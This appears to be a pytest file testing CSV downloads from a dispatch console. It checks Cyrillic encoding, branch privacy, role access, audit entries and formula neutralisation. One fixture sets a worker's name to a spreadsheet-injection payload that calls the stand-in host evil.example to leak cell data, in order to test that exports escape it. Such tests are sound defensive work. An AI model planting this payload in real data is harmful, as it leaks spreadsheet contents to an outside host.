"""Every list the console shows, as a CSV download: a UTF-8 BOM (Excel reads Cyrillic), the
reader's separator, formulas neutralised, the same roles and the same privacy as the page
(dispatch/access/privacy.py), and the download audited."""

import csv
import io
from datetime import timedelta

import pytest
from sqlalchemy import select

from api.console.i18n import TEXTS
from core.audit import AuditEntry
from core.clock import now
from core.csvsafe import BOM, STYLES
from core.logmask import masked_phone
from sms.models import Message
from tests.api.console.helpers import sign_in
from tests.builders import (
    MOSCOW,
    make_branch,
    make_client,
    make_offer,
    make_order,
    make_site,
    make_user,
    make_worker,
)

OFFICE_PATHS = [
    "/console/workers/export.csv",
    "/console/workers/search.csv",
    "/console/board.csv",
    "/console/messages.csv",
]
ALL_PATHS = [*OFFICE_PATHS, "/console/staff.csv"]
NAME = "Щукина Ёлка-Эльвира"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
STRANGER_PHONE = "+79219990077"


def rows_of(response, language: str | None = None) -> list[dict[str, str]]:
    """Rows keyed by column code (the header's words mapped back through the word tables)."""
    assert response.status_code == 200, response.text
    language = language or response.headers["content-language"]
    text = response.content.decode("utf-8")
    assert text.startswith(BOM)
    header, *rows = list(csv.reader(io.StringIO(text[1:]), delimiter=STYLES[language].delimiter))
    words = {key: word for key, word in TEXTS[language].items() if key.startswith("csv_")}
    codes = {word: key.removeprefix("csv_") for key, word in words.items()}
    names = [codes[word] for word in header]  # a KeyError: a header word not ours
    return [dict(zip(names, row, strict=True)) for row in rows]


@pytest.fixture
def world(session):
    """Branch A with its workers and an order on the board; branch B's worker booked on A's
    order (A may see B's worker's name and a masked phone), texts to both."""
    home, other = make_branch(session), make_branch(session)
    site = make_site(session, client=make_client(session, branch=home), at=MOSCOW)
    order = make_order(session, site=site, starts_in=timedelta(hours=3), now=now())
    ours = make_worker(session, branch=home, full_name=NAME)
    evil = make_worker(session, branch=home, full_name=EVIL)
    stranger = make_worker(session, branch=other, full_name="Чужой Работник", phone=STRANGER_PHONE)
    alone = make_worker(session, branch=other, full_name="Совсем Чужой")
    make_offer(session, order=order, worker=stranger, status="booked")
    for worker in (ours, stranger, alone):
        session.add(
            Message(
                direction="out",
                kind="offer",
                worker_id=worker.id,
                order_id=order.id if worker is not alone else None,
                phone=worker.phone,
                body=f"Заказ {order.code}: выйдете?",
                encoding="UCS-2",
                segments=1,
                status="sent",
            )
        )
    session.flush()
    return {
        "home": home,
        "other": other,
        "order": order,
        "ours": ours,
        "evil": evil,
        "stranger": stranger,
        "alone": alone,
        "dispatcher": make_user(session, role="dispatcher", branch=home),
        "manager": make_user(session, role="manager", branch=home),
        "foreman": make_user(session, role="foreman", branch=home),
        "their_dispatcher": make_user(session, role="dispatcher", branch=other),
    }


@pytest.mark.parametrize("path", ALL_PATHS)
@pytest.mark.parametrize("language", ["ru", "en"])
def test_each_list_downloads_as_a_spreadsheet_reads_it(client, world, path, language):
    sign_in(client, world["manager"])
    answer = client.get(path, params={"lang": language})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    assert answer.headers["content-language"] == language
    assert answer.content.startswith(BOM.encode("utf-8"))
    assert rows_of(answer, language)  # every header word is one of ours; a row at least


def test_cyrillic_round_trips_and_formulas_are_neutralised(client, world):
    sign_in(client, world["dispatcher"])
    rows = rows_of(client.get("/console/workers/export.csv", params={"lang": "ru"}))
    by_id = {int(row["worker_id"]): row for row in rows}
    ours = by_id[world["ours"].id]
    assert ours["full_name"] == NAME
    assert ours["phone"] == "'" + world["ours"].phone  # "+7...": a spreadsheet must not add
    assert ours["export_skills"] == "грузчик" and ours["export_vetted"] == "да"
    assert by_id[world["evil"].id]["full_name"] == "'" + EVIL


def test_the_branchs_workers_only(client, world):
    sign_in(client, world["dispatcher"])
    body = client.get("/console/workers/export.csv").content.decode()
    assert NAME in body
    assert "Чужой Работник" not in body and STRANGER_PHONE[-7:] not in body


def test_the_search_download_is_the_search(client, world):
    sign_in(client, world["dispatcher"])
    rows = rows_of(client.get("/console/workers/search.csv", params={"q": "Щукина"}))
    assert [row["full_name"] for row in rows] == [NAME]
    refused = client.get(
        "/console/workers/search.csv", params={"skill": "pilot"}, follow_redirects=False
    )
    assert refused.status_code == 303 and refused.headers["location"].startswith(
        "/console/workers?"
    )


def test_messages_show_another_branchs_worker_as_the_page_does(client, world):
    sign_in(client, world["dispatcher"])
    rows = rows_of(client.get("/console/messages.csv", params={"lang": "ru"}))
    by_worker = {int(row["worker_id"]): row for row in rows}
    assert by_worker[world["ours"].id]["phone"] == "'" + world["ours"].phone
    stranger = by_worker[world["stranger"].id]
    assert stranger["full_name"] == "Чужой Работник"  # booked here: named, phone masked
    assert stranger["phone"] == "'" + masked_phone(STRANGER_PHONE)
    assert world["alone"].id not in by_worker  # not ours, not about our order
    page = client.get("/console/messages").text
    assert masked_phone(STRANGER_PHONE) in page and STRANGER_PHONE not in page


def test_the_other_branch_sees_its_own_worker_whole_and_nothing_of_ours(client, world):
    sign_in(client, world["their_dispatcher"])
    body = client.get("/console/messages.csv").content.decode()
    assert STRANGER_PHONE in body  # their own worker
    assert NAME not in body and world["ours"].phone not in body
    workers = client.get("/console/workers/export.csv").content.decode()
    assert NAME not in workers and world["ours"].phone not in workers


def test_a_refused_message_filter_goes_to_the_page(client, world):
    sign_in(client, world["dispatcher"])
    answer = client.get(
        "/console/messages.csv", params={"worker_id": "abc"}, follow_redirects=False
    )
    assert answer.status_code == 303
    assert answer.headers["location"].startswith("/console/messages?")
    assert client.get(answer.headers["location"]).status_code == 422  # said by its field


@pytest.mark.parametrize("path", ALL_PATHS)
def test_a_foreman_gets_no_list(client, world, path):
    sign_in(client, world["foreman"])
    answer = client.get(path)
    assert answer.status_code == 403
    assert world["ours"].phone not in answer.text and NAME not in answer.text


def test_the_staff_list_is_for_managers_and_their_branch(client, world):
    sign_in(client, world["dispatcher"])
    assert client.get("/console/staff.csv").status_code == 403
    sign_in(client, world["manager"])
    rows = rows_of(client.get("/console/staff.csv", params={"lang": "en"}), "en")
    names = {row["export_username"] for row in rows}
    assert world["dispatcher"].username in names and world["foreman"].username in names
    assert world["their_dispatcher"].username not in names
    assert {row["export_active"] for row in rows} == {"yes"}


def test_the_board_download_names_the_orders(client, world):
    sign_in(client, world["dispatcher"])
    rows = rows_of(client.get("/console/board.csv", params={"lang": "en"}), "en")
    assert [row["order"] for row in rows] == [world["order"].code]
    assert rows[0]["export_booked"] == "1" and rows[0]["export_status"]


@pytest.mark.parametrize(
    "path, entity",
    [
        ("/console/workers/export.csv", "worker"),
        ("/console/messages.csv", "message"),
        ("/console/board.csv", "order"),
    ],
)
def test_each_download_is_audited(client, session, world, path, entity):
    sign_in(client, world["dispatcher"])
    client.get(path)
    entry = session.scalars(
        select(AuditEntry).where(AuditEntry.action == f"{entity}.export").order_by(AuditEntry.id)
    ).one()
    assert entry.detail["via"] == path and entry.actor_user_id == world["dispatcher"].id
    assert entry.entity_ids and entry.branch_id == world["home"].id
    if entity == "worker":
        assert world["ours"].id in entry.entity_ids and world["stranger"].id not in entry.entity_ids


@pytest.mark.parametrize(
    "page, link",
    [
        ("/console/", "/console/board.csv"),
        ("/console/workers", "/console/workers/search.csv"),
        ("/console/workers", "/console/workers/export.csv"),
        ("/console/messages?direction=out", "/console/messages.csv?direction=out"),
        ("/console/staff", "/console/staff.csv"),
    ],
)
def test_each_list_page_links_its_download(client, world, page, link):
    sign_in(client, world["manager"])
    assert f'href="{link}' in client.get(page).text
